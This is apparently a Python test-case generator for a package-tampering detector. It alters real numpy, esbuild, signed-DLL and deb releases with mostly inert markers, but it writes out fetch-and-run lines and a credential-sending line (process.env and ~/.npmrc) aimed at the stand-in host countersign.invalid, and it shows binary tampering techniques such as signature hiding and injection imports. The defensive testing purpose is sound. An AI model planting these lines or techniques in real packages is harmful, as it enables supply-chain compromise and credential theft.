@@ -1,0 +1,684 @@
+"""Attacks on real releases. What is put in does nothing: marker words, noise, names that lead nowhere.
+
+attacks.py --list              names all attacks
+attacks.py CACHE FOLDER NAME   makes one from the releases in CACHE; prints the old artifact, the new, the attacked member
+
+"NAME / same" attacks a release that is otherwise unchanged, "NAME / next" the release that follows.
+"""
+
+import base64
+import hashlib
+import io
+import json
+import os
+import shutil
+import struct
+import subprocess
+import sys
+import tarfile
+import zipfile
+
+MARKER = b"COUNTERSIGN HARMLESS TEST PAYLOAD "
+NOISE = hashlib.shake_256(MARKER).digest(275 * 1024)
+
+# --- PE ("PE Format", Microsoft)
+
+
+def word(data, at, form="<I"):
+    return struct.unpack_from(form, data, at)[0]
+
+
+def pe_headers(data):
+    headers = word(data, 0x3C)
+    return headers, word(data, headers + 6, "<H"), headers + 24 + word(data, headers + 20, "<H")
+
+
+def pe_sections(data):
+    """Name, virtual size, address, raw size, raw offset, offset of the header."""
+    _, count, table = pe_headers(data)
+    headers = (table + 40 * number for number in range(count))
+    return [(data[at : at + 8].rstrip(b"\0"), *struct.unpack_from("<IIII", data, at + 8), at) for at in headers]
+
+
+def pe_directory(data, number):
+    headers, _, _ = pe_headers(data)
+    wide = word(data, headers + 24, "<H") == 0x20B
+    return headers + 24 + (112 if wide else 96) + 8 * number
+
+
+def pe_offset(data, address):
+    for _, size, start, raw, offset, _ in pe_sections(data):
+        if start <= address < start + max(size, raw):
+            return offset + address - start
+    raise ValueError("no section holds this address")
+
+
+def pe_new_section(flags, content):
+    def change(data):
+        data = bytearray(data)
+        headers, count, table = pe_headers(data)
+        assert table + 40 * (count + 1) <= word(data, headers + 24 + 60), "no room for a section header"
+        in_memory, in_file = struct.unpack_from("<II", data, headers + 24 + 32)
+        up = lambda value, step: (value + step - 1) // step * step
+        address = max(up(start + max(size, raw), in_memory) for _, size, start, raw, _, _ in pe_sections(data))
+        data.extend(bytes(up(len(data), in_file) - len(data)))
+        body = content(address) if callable(content) else content
+        raw = up(len(body), in_file)
+        struct.pack_into("<8sIIIIIIHHI", data, table + 40 * count, b".extra", len(body), address, raw, len(data), 0, 0, 0, 0, flags)
+        struct.pack_into("<H", data, headers + 6, count + 1)
+        struct.pack_into("<I", data, headers + 24 + 56, address + up(raw, in_memory))
+        data.extend(body + bytes(raw - len(body)))
+        return bytes(data)
+
+    return change
+
+
+def pe_entry_patched(data):
+    data = bytearray(data)
+    headers, _, _ = pe_headers(data)
+    at = pe_offset(data, word(data, headers + 24 + 16))
+    data[at : at + 5] = b"\xe9\x10\0\0\0"
+    return bytes(data)
+
+
+def pe_entry_moved(data):
+    data = bytearray(pe_new_section(0x60000020, b"\xc3" + MARKER)(data))
+    headers, _, _ = pe_headers(data)
+    struct.pack_into("<I", data, headers + 24 + 16, pe_sections(data)[-1][2])
+    return bytes(data)
+
+
+def pe_cave(data):
+    """Code in the unused end of the code section, which no header accounts for."""
+    data = bytearray(data)
+    _, size, _, raw, offset, _ = next(section for section in pe_sections(data) if section[0] == b".text")
+    room = data[offset + size : offset + raw]
+    assert len(room) > 40, "no cave"
+    data[offset + size : offset + size + 40] = (MARKER * 2)[:40]
+    return bytes(data)
+
+
+def pe_code(data):
+    data = bytearray(data)
+    _, size, _, _, offset, _ = next(section for section in pe_sections(data) if section[0] == b".text")
+    data[offset + size // 2 : offset + size // 2 + 64] = b"\xcc" * 64
+    return bytes(data)
+
+
+def pe_import(library, symbols):
+    """All import descriptors once more in a new section, and one more."""
+
+    def change(data):
+        directory = pe_directory(data, 1)
+        address, size = struct.unpack_from("<II", data, directory)
+        at = pe_offset(data, address)
+        old = b""
+        while any(data[at + len(old) : at + len(old) + 20]):
+            old += data[at + len(old) : at + len(old) + 20]
+
+        def content(base):
+            names = len(old) + 40
+            body, hints = b"", []
+            for symbol in symbols:
+                hints.append(base + names + len(body))
+                entry = b"\0\0" + symbol + b"\0"
+                body += entry + bytes(len(entry) % 2)
+            body += bytes(-len(body) % 8)
+            tables = []
+            for _ in range(2):
+                tables.append(base + names + len(body))
+                body += b"".join(struct.pack("<Q", hint) for hint in hints + [0])
+            name = base + names + len(body)
+            body += library + b"\0"
+            return old + struct.pack("<IIIII", tables[0], 0, 0, name, tables[1]) + bytes(20) + body
+
+        data = bytearray(pe_new_section(0xC0000040, content)(data))
+        struct.pack_into("<II", data, directory, pe_sections(data)[-1][2], len(old) + 40)
+        return bytes(data)
+
+    return change
+
+
+def pe_export(data):
+    """The first export leads into a new section."""
+    data = bytearray(pe_new_section(0x60000020, b"\xc3" + MARKER)(data))
+    exports = pe_offset(data, word(data, pe_directory(data, 0)))
+    functions = pe_offset(data, word(data, exports + 28))
+    struct.pack_into("<I", data, functions, pe_sections(data)[-1][2])
+    return bytes(data)
+
+
+def without_signature(data):
+    data = bytearray(data)
+    directory = pe_directory(data, 4)
+    start, _ = struct.unpack_from("<II", data, directory)
+    struct.pack_into("<II", data, directory, 0, 0)
+    return bytes(data[:start])
+
+
+# --- Authenticode: where a signature does not look
+
+
+def der(tag, content):
+    length = len(content)
+    if length < 0x80:
+        return bytes([tag, length]) + content
+    size = (length.bit_length() + 7) // 8
+    return bytes([tag, 0x80 | size]) + length.to_bytes(size, "big") + content
+
+
+def der_split(data):
+    """Tag, content, and what follows."""
+    length, begin = data[1], 2
+    if length >= 0x80:
+        begin = 2 + (length & 0x7F)
+        length = int.from_bytes(data[2:begin], "big")
+    return data[0], data[begin : begin + length], data[begin + length :]
+
+
+def der_children(data):
+    children = []
+    while data:
+        tag, content, rest = der_split(data)
+        children.append((tag, content))
+        data = rest
+    return children
+
+
+def joined(children):
+    return b"".join(der(tag, content) for tag, content in children)
+
+
+def with_signed_data(structure, change):
+    _, outer, _ = der_split(structure)
+    (kind, explicit) = der_children(outer)
+    _, fields, _ = der_split(explicit[1])
+    fields = der_children(fields)
+    change(fields)
+    return der(0x30, joined([kind, (0xA0, der(0x30, joined(fields)))]))
+
+
+def attribute(fields):
+    tag, signers = fields[-1]
+    _, signer, _ = der_split(signers)
+    signer = der_children(signer)
+    extra = der(0x30, der(6, b"\x2b\x06\x01\x04\x01\x82\xcf\x29\x01") + der(0x31, der(4, NOISE)))
+    if signer[-1][0] == 0xA1:
+        signer[-1] = (0xA1, signer[-1][1] + extra)
+    else:
+        signer.append((0xA1, extra))
+    fields[-1] = (tag, der(0x30, joined(signer)))
+
+
+def certificate(fields):
+    place = next(number for number, (tag, _) in enumerate(fields) if tag == 0xA0)
+    name = der(0x30, der(0x31, der(0x30, der(6, b"\x55\x04\x03") + der(12, b"Countersign harmless"))))
+    algorithm = der(0x30, der(6, b"\x2a\x86\x48\xce\x3d\x04\x03\x02"))
+    validity = der(0x30, der(0x17, b"230101000000Z") + der(0x17, b"490101000000Z"))
+    key = der(0x30, algorithm + der(3, b"\0" + NOISE))
+    body = der(0x30, der(2, b"\x09") + algorithm + name + validity + name + key)
+    fields[place] = (0xA0, fields[place][1] + der(0x30, body + algorithm + der(3, b"\0\x01")))
+
+
+def entry(kind, content):
+    length = (8 + len(content) + 7) // 8 * 8
+    return (struct.pack("<IHH", length, 0x200, kind) + content).ljust(length, b"\0")
+
+
+def hidden(way):
+    def change(data):
+        directory = pe_directory(data, 4)
+        start, size = struct.unpack_from("<II", data, directory)
+        assert start and start + size == len(data), "a signed image with its table at the end"
+        table = data[start:]
+        content = table[8 : word(table, 0)]
+        structure = content[: len(content) - len(der_split(content)[2])]
+        if way == "behind":
+            table = entry(2, structure + NOISE)
+        elif way == "gap":
+            table = table + bytes(8) + NOISE
+        elif way == "entry":
+            table = table + entry(2, NOISE)
+        elif way == "unknown-entry":
+            table = table + entry(0x0EF0, NOISE)
+        elif way == "attribute":
+            table = entry(2, with_signed_data(structure, attribute))
+        elif way == "certificate":
+            table = entry(2, with_signed_data(structure, certificate))
+        changed = bytearray(data[:start])
+        struct.pack_into("<I", changed, directory + 4, len(table))
+        return bytes(changed) + table + (NOISE if way == "overlay" else b"")
+
+    return change
+
+
+# --- ELF (System V ABI) and Mach-O
+
+
+def elf_segments(data):
+    at, size, count = word(data, 0x20, "<Q"), word(data, 0x36, "<H"), word(data, 0x38, "<H")
+    return [at + size * number for number in range(count)]
+
+
+def elf_dynamic(data):
+    for at in elf_segments(data):
+        if word(data, at) == 2:
+            offset, size = word(data, at + 8, "<Q"), word(data, at + 32, "<Q")
+            return range(offset, offset + size, 16)
+    raise ValueError("no dynamic section")
+
+
+def elf_offset(data, address):
+    for at in elf_segments(data):
+        kind, _, offset, start, _, size = struct.unpack_from("<IIQQQQ", data, at)
+        if kind == 1 and start <= address < start + size:
+            return offset + address - start
+    raise ValueError("no segment holds this address")
+
+
+def elf_value(data, tag):
+    return next(word(data, at + 8, "<Q") for at in elf_dynamic(data) if word(data, at, "<q") == tag)
+
+
+def elf_needed(data):
+    """One more library, named by a string that is there already; it takes the place of a mere hint."""
+    data = bytearray(data)
+    strings = elf_value(data, 5)
+    at = elf_offset(data, strings)
+    name = data.index(b"\0", at + 1) + 1 - at
+    hint = next(at for at in elf_dynamic(data) if word(data, at, "<q") == 0x6FFFFFF9)
+    struct.pack_into("<qQ", data, hint, 1, name)
+    return bytes(data)
+
+
+def elf_search_path(data):
+    data = bytearray(data)
+    at = elf_offset(data, elf_value(data, 5))
+    hint = next(at for at in elf_dynamic(data) if word(data, at, "<q") == 0x6FFFFFF9)
+    struct.pack_into("<qQ", data, hint, 15, data.index(b"\0", at + 1) + 1 - at)
+    return bytes(data)
+
+
+def elf_irelative(data):
+    """A relocation is decided by a function that runs before the program (as in xz 5.6)."""
+    data = bytearray(data)
+    table, size = elf_offset(data, elf_value(data, 7)), elf_value(data, 8)
+    for at in range(table, table + size, 24):
+        if word(data, at + 8, "<Q") == 8:
+            struct.pack_into("<Q", data, at + 8, 37)
+            return bytes(data)
+    raise ValueError("no relocation")
+
+
+def elf_function(data):
+    """An exported function becomes one that is decided when it is loaded (`STT_GNU_IFUNC`)."""
+    data = bytearray(data)
+    symbols, strings = elf_offset(data, elf_value(data, 6)), elf_offset(data, elf_value(data, 5))
+    for at in range(symbols + 24, strings, 24):
+        if data[at + 4] == 0x12 and word(data, at + 6, "<H"):
+            data[at + 4] = 0x1A
+            return bytes(data)
+    raise ValueError("no exported function")
+
+
+def elf_first(data):
+    """One more function runs before the program."""
+    data = bytearray(data)
+    for at in elf_dynamic(data):
+        if word(data, at, "<q") == 27:
+            struct.pack_into("<Q", data, at + 8, word(data, at + 8, "<Q") + 8)
+    headers, count = word(data, 0x28, "<Q"), word(data, 0x3C, "<H")
+    for number in range(count):
+        at = headers + 64 * number
+        if word(data, at + 4) == 14:
+            struct.pack_into("<Q", data, at + 32, word(data, at + 32, "<Q") + 8)
+    return bytes(data)
+
+
+def elf_note(data):
+    """A segment that says something becomes one that is loaded, writable and executable."""
+    data = bytearray(data)
+    data.extend(bytes(-len(data) % 4096))
+    for at in elf_segments(data):
+        if word(data, at) == 4:
+            body = b"\xc3" + MARKER * 100
+            struct.pack_into("<IIQQQQQQ", data, at, 1, 7, len(data), 0x10000000, 0x10000000, len(body), len(body), 4096)
+            return bytes(data) + body
+    raise ValueError("no note")
+
+
+def macho_slice(data):
+    return struct.unpack_from("<IIIIIIII", data, 0)
+
+
+def macho_dylib(data):
+    data = bytearray(data)
+    count, size = word(data, 16), word(data, 20)
+    name = b"@loader_path/extra.dylib".ljust(32, b"\0")
+    command = struct.pack("<IIIIII", 0xC, 24 + len(name), 24, 0, 0, 0) + name
+    assert not any(data[32 + size : 32 + size + len(command)]), "no room for a load command"
+    data[32 + size : 32 + size + len(command)] = command
+    struct.pack_into("<II", data, 16, count + 1, size + len(command))
+    return bytes(data)
+
+
+def macho_slack(data):
+    """Bytes behind the signature, inside what the load command calls the signature."""
+    data = bytearray(data)
+    at = 32
+    for _ in range(word(data, 16)):
+        kind, size = struct.unpack_from("<II", data, at)
+        if kind == 0x19 and data[at + 8 : at + 24].rstrip(b"\0") == b"__LINKEDIT":
+            segment = at
+        if kind == 0x1D:
+            struct.pack_into("<I", data, at + 12, word(data, at + 12) + len(NOISE))
+            struct.pack_into("<Q", data, segment + 48, word(data, segment + 48, "<Q") + len(NOISE))
+            return bytes(data) + NOISE
+        at += size
+    raise ValueError("no signature")
+
+
+# --- Containers
+
+
+def zipped(source, target, change=None, add=None, keep_record=False):
+    archive = zipfile.ZipFile(source)
+    files = {info.filename: archive.read(info) for info in archive.infolist() if not info.is_dir()}
+    for ending, edit in (change or {}).items():
+        name = next(name for name in files if name.endswith(ending))
+        files[name] = edit(files[name])
+    files.update(add or {})
+    record = next((name for name in files if name.endswith(".dist-info/RECORD")), None)
+    if record and not keep_record:
+        line = lambda name, content: f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b'=').decode()},{len(content)}\n"
+        files[record] = ("".join(line(name, content) for name, content in files.items() if name != record) + f"{record},,\n").encode()
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
+        for name, content in files.items():
+            out.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
+
+
+def tarred(source, target, change=None, add=None):
+    change = dict(change or {})
+    with tarfile.open(source) as archive, tarfile.open(target, "w:gz", compresslevel=1) as out:
+        for member in archive:
+            content = archive.extractfile(member).read() if member.isfile() else None
+            for ending in [ending for ending in change if member.name.endswith(ending)]:
+                content = change.pop(ending)(content)
+            if content is not None:
+                member.size = len(content)
+            out.addfile(member, io.BytesIO(content) if content is not None else None)
+        for name, content in (add or {}).items():
+            member = tarfile.TarInfo(name)
+            member.size = len(content)
+            out.addfile(member, io.BytesIO(content))
+    assert not change, change
+
+
+def asar(files):
+    """An Electron archive: a pickled header that lists the files with their digests, then their bytes."""
+    tree, offset = {}, 0
+    for name, content in files.items():
+        folder = tree
+        *folders, leaf = name.split("/")
+        for part in folders:
+            folder = folder.setdefault(part, {"files": {}})["files"]
+        digest = hashlib.sha256(content).hexdigest()
+        integrity = {"algorithm": "SHA256", "hash": digest, "blockSize": 4194304, "blocks": [digest]}
+        folder[leaf] = {"size": len(content), "offset": str(offset), "integrity": integrity}
+        offset += len(content)
+    header = json.dumps({"files": tree}).encode()
+    padded = header + bytes(-len(header) % 4)
+    return struct.pack("<IIII", 4, len(padded) + 8, len(padded) + 4, len(header)) + padded + b"".join(files.values())
+
+
+def package(scripts):
+    def change(data):
+        document = json.loads(data)
+        document.setdefault("scripts", {}).update(scripts)
+        return json.dumps(document, indent=2).encode()
+
+    return change
+
+
+def appended(text):
+    return lambda data: data + text
+
+
+# --- The list
+
+
+class Cache:
+    def __init__(self, folder):
+        self.folder = folder
+
+    def file(self, key):
+        folder = os.path.join(self.folder, key)
+        return os.path.join(folder, os.listdir(folder)[0])
+
+    def member(self, key, ending):
+        archive = zipfile.ZipFile(self.file(key))
+        return archive.read(next(name for name in archive.namelist() if name.endswith(ending)))
+
+
+NUMPY = {"windows": "_multiarray_umath.cp312-win_amd64.pyd", "linux": "_multiarray_umath.cpython-312-x86_64-linux-gnu.so", "macos": "_multiarray_umath.cpython-312-darwin.so"}
+ATTACKS = {}
+
+
+def attack(name, make, updates=True):
+    for twin in ["same", "next"] if updates else ["same"]:
+        ATTACKS[f"{name} / {twin}"] = (make, twin)
+
+
+def on_wheel(name, project, versions, platform, member, change=None, add=None, keep_record=False):
+    def make(cache, folder, twin):
+        old, new = (cache.file(f"pypi-{project}-{version}-{platform}") for version in (versions[0], versions[twin == "next"]))
+        target = os.path.join(folder, os.path.basename(new))
+        zipped(new, target, change and {member: change}, add, keep_record)
+        return old, target, member
+
+    attack(name, make)
+
+
+def on_numpy(name, platform, change=None, add=None, member=None, **options):
+    on_wheel(name, "numpy", ["2.1.2", "2.1.3"], platform, member or NUMPY[platform], change, add, **options)
+
+
+def on_npm(name, member, change=None, add=None):
+    def make(cache, folder, twin):
+        old, new = (cache.file(f"npm-esbuild-{version}-") for version in ("0.24.0", "0.24.2" if twin == "next" else "0.24.0"))
+        target = os.path.join(folder, os.path.basename(new))
+        tarred(new, target, change and {member: change}, add)
+        return old, target, member
+
+    attack(name, make)
+
+
+def on_signed(name, change, container=None):
+    """An installer in which a library signed by somebody else is changed, and nothing else is."""
+
+    def make(cache, folder, twin):
+        library = cache.member("pypi-pyqt5-qt5-5.15.2-windows", "d3dcompiler_47.dll")
+        paths = []
+        for which, content in (("old", library), ("new", change(library))):
+            path = os.path.join(folder, which, "setup.zip")
+            os.makedirs(os.path.dirname(path))
+            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
+                out.writestr(zipfile.ZipInfo("app/d3dcompiler_47.dll"), content, zipfile.ZIP_DEFLATED)
+            paths.append(path)
+        return *paths, "d3dcompiler_47.dll"
+
+    attack(name, make, updates=False)
+
+
+def on_asar(name, member, change):
+    """The scripts of a real package as an Electron application has them."""
+
+    def make(cache, folder, twin):
+        def files(version):
+            with tarfile.open(cache.file(f"npm-esbuild-{version}-")) as archive:
+                return {entry.name: archive.extractfile(entry).read() for entry in archive if entry.isfile()}
+
+        old, new = files("0.24.0"), files("0.24.2" if twin == "next" else "0.24.0")
+        new[member] = change(new[member])
+        paths = []
+        for which, content in (("old", old), ("new", new)):
+            path = os.path.join(folder, which, "app.asar")
+            os.makedirs(os.path.dirname(path))
+            with open(path, "wb") as out:
+                out.write(asar(content))
+            paths.append(path)
+        return *paths, member
+
+    attack(name, make)
+
+
+def on_jar(name):
+    def make(cache, folder, twin):
+        sources = {"A": "public class A { public static int f(int x) { return x * 3; } }", "B": "public class B { static { new ProcessBuilder(\"harmless\"); } }"}
+        paths = []
+        for which, classes in (("old", "A"), ("new", "AB")):
+            place = os.path.join(folder, which)
+            os.makedirs(place)
+            for source in classes:
+                with open(os.path.join(place, source + ".java"), "w") as out:
+                    out.write(sources[source])
+            subprocess.run(["javac", "-d", place, *(os.path.join(place, source + ".java") for source in classes)], check=True)
+            path = os.path.join(place, "library.jar")
+            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+                out.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n\r\n")
+                for source in classes:
+                    out.write(os.path.join(place, source + ".class"), f"org/example/{source}.class")
+            paths.append(path)
+        return *paths, "B.class"
+
+    attack(name, make, updates=False)
+
+
+def on_nsis(name):
+    """A real installer maker; the script of the second installer runs something more."""
+
+    def make(cache, folder, twin):
+        library = cache.member("pypi-numpy-2.1.2-windows", "lapack_lite.cp312-win_amd64.pyd")
+        with open(os.path.join(folder, "app.dll"), "wb") as out:
+            out.write(library)
+        paths = []
+        for which, line in (("old", ""), ("new", 'ExecShell "open" "$INSTDIR\\harmless.exe"')):
+            place = os.path.join(folder, which)
+            os.makedirs(place)
+            script = os.path.join(place, "setup.nsi")
+            with open(script, "w") as out:
+                out.write(f'Name app\nOutFile setup.exe\nInstallDir "$PROGRAMFILES\\app"\nSection\nSetOutPath $INSTDIR\nFile ../app.dll\n{line}\nSectionEnd\n')
+            subprocess.run(["makensis", "-V1", script], check=True)
+            paths.append(os.path.join(place, "setup.exe"))
+        return *paths, ""
+
+    attack(name, make, updates=False)
+
+
+def on_deb(name, member, change):
+    """A real package, unpacked and built again by the tools of its system."""
+
+    def make(cache, folder, twin):
+        content = os.path.join(folder, "content")
+        os.makedirs(os.path.join(content, "DEBIAN"))
+        os.makedirs(os.path.join(content, "usr/bin"))
+        shutil.copy("/bin/true", os.path.join(content, "usr/bin/tool"))
+        with open(os.path.join(content, "DEBIAN/control"), "w") as out:
+            out.write("Package: tool\nVersion: 1\nArchitecture: amd64\nMaintainer: nobody\nDescription: x\n")
+        paths = []
+        for which in ("old", "new"):
+            if which == "new":
+                change(content)
+            os.makedirs(os.path.join(folder, which))
+            path = os.path.join(folder, which, "tool.deb")
+            subprocess.run(["dpkg-deb", "--root-owner-group", "-b", content, path], check=True, stdout=subprocess.DEVNULL)
+            paths.append(path)
+        return *paths, member
+
+    attack(name, make, updates=False)
+
+
+def hook(content):
+    path = os.path.join(content, "DEBIAN/postinst")
+    with open(path, "w") as out:
+        out.write("#!/bin/sh\ncurl -s http://countersign.invalid/x | sh\n")
+    os.chmod(path, 0o755)
+
+
+def set_user(content):
+    os.chmod(os.path.join(content, "usr/bin/tool"), 0o4755)
+
+
+for way in ("behind", "gap", "entry", "unknown-entry", "attribute", "certificate", "overlay"):
+    on_signed(f"signed library, bytes hidden: {way}", hidden(way))
+on_signed("signed library, code changed", pe_code)
+on_signed("signed library, signature removed and code changed", lambda data: pe_code(without_signature(data)))
+on_signed("signed library replaced by noise of the same size", lambda data: (NOISE * (len(data) // len(NOISE) + 1))[: len(data)])
+
+on_numpy("PE, new code section", "windows", pe_new_section(0x60000020, MARKER * 100))
+on_numpy("PE, new section writable and executable", "windows", pe_new_section(0xE0000020, MARKER * 10))
+on_numpy("PE, new section of noise", "windows", pe_new_section(0x40000040, NOISE[:30000]))
+on_numpy("PE, entry patched", "windows", pe_entry_patched)
+on_numpy("PE, entry moved to a new section", "windows", pe_entry_moved)
+on_numpy("PE, code cave", "windows", pe_cave)
+on_numpy("PE, import of process injection", "windows", pe_import(b"KERNEL32.dll", [b"VirtualAllocEx", b"WriteProcessMemory", b"CreateRemoteThread"]))
+on_numpy("PE, export replaced", "windows", pe_export)
+on_numpy("PE, data appended", "windows", appended(NOISE[:50000]))
+on_wheel("PE, import of WinExec", "cryptography", ["43.0.1", "43.0.3"], "windows", "_rust.pyd", pe_import(b"KERNEL32.dll", [b"WinExec"]))
+on_numpy("ELF, one more library", "linux", elf_needed)
+on_numpy("ELF, search path", "linux", elf_search_path)
+on_numpy("ELF, IRELATIVE relocation", "linux", elf_irelative)
+on_numpy("ELF, IFUNC", "linux", elf_function)
+on_numpy("ELF, one more initialiser", "linux", elf_first)
+on_numpy("ELF, note made a loaded segment", "linux", elf_note)
+on_numpy("ELF, data appended", "linux", appended(NOISE[:50000]))
+on_numpy("Mach-O, one more library", "macos", macho_dylib)
+on_numpy("Mach-O, bytes behind the signature", "macos", macho_slack)
+
+on_numpy("wheel, .pth that runs code", "linux", add={"extra.pth": b"import os; os.getpid()\n"}, member="extra.pth")
+on_numpy("wheel, member changed and RECORD not", "linux", appended(b"\n# x"), member="numpy/version.py", keep_record=True)
+on_numpy("wheel, script that decodes and runs", "linux", appended(b"\nimport base64; exec(base64.b64decode('" + base64.b64encode(b"print(1)" * 200) + b"'))\n"), member="numpy/__init__.py")
+on_numpy("wheel, script that fetches and runs", "linux", appended(b"\nimport subprocess, urllib.request\nsubprocess.Popen(['sh', '-c', urllib.request.urlopen('http://countersign.invalid/x').read()])\n"), member="numpy/version.py")
+on_numpy("wheel, hidden direction of text", "linux", appended("\n# \u202e\u2066 x\n".encode()), member="numpy/version.py")
+on_numpy("wheel, bytecode that is not its source", "linux", add={"numpy/__pycache__/version.cpython-312.pyc": b"\xcb\r\r\n" + bytes(8) + struct.pack("<I", 1) + b"\xe3" + bytes(60)}, member="version.cpython-312.pyc")
+on_numpy("wheel, program inside a data file", "linux", add={"numpy/data.npy": b"\x93NUMPY" + b"0" * 100 + open("/bin/true", "rb").read()}, member="numpy/data.npy")
+on_numpy("wheel, program named as a picture", "linux", add={"numpy/logo.png": open("/bin/true", "rb").read()}, member="numpy/logo.png")
+on_npm("npm, preinstall", "package.json", package({"preinstall": "node extra.js"}), {"package/extra.js": b"console.log(1)\n"})
+on_npm("npm, postinstall changed", "package.json", package({"postinstall": "node install.js && node extra.js"}))
+on_npm("npm, script that decodes and runs", "lib/main.js", appended(b'\n;(function(){eval(Buffer.from("' + base64.b64encode(NOISE[:3000]) + b'","base64").toString())})()\n'))
+on_npm("npm, script that sends credentials", "install.js", appended(b'\nrequire("https").get("https://countersign.invalid/?" + JSON.stringify(process.env) + require("fs").readFileSync(require("os").homedir() + "/.npmrc"))\n'))
+on_npm("npm, native program added", "bin/extra", None, {"package/bin/extra": open("/bin/true", "rb").read()})
+on_asar("asar, script that fetches and runs", "package/install.js", appended(b'\nrequire("https").get("https://countersign.invalid/", r => require("child_process").exec(r))\n'))
+on_jar("jar, class added that starts processes")
+on_nsis("NSIS, script runs one thing more")
+on_deb("deb, maintainer script that fetches and runs", "postinst", hook)
+on_deb("deb, program becomes set-user-ID", "usr/bin/tool", set_user)
+
+
+def archive_in_archive():
+    def make(cache, folder, twin):
+        inner = io.BytesIO()
+        with zipfile.ZipFile(inner, "w") as out:
+            out.writestr("deep/tool.pyd", cache.member("pypi-numpy-2.1.2-windows", "lapack_lite.cp312-win_amd64.pyd"))
+        old, new = (cache.file(f"pypi-numpy-{version}-linux") for version in ("2.1.2", "2.1.3" if twin == "next" else "2.1.2"))
+        target = os.path.join(folder, os.path.basename(new))
+        zipped(new, target, None, {"numpy/data.bin": inner.getvalue()})
+        return old, target, "numpy/data.bin"
+
+    attack("wheel, library inside an archive inside", make)
+
+
+archive_in_archive()
+
+
+def main():
+    if sys.argv[1:] == ["--list"]:
+        print("\n".join(ATTACKS))
+        return
+    cache, folder, name = sys.argv[1:]
+    os.makedirs(folder)
+    make, twin = ATTACKS[name]
+    print("\n".join(make(Cache(cache), folder, twin)))
+
+
+main()
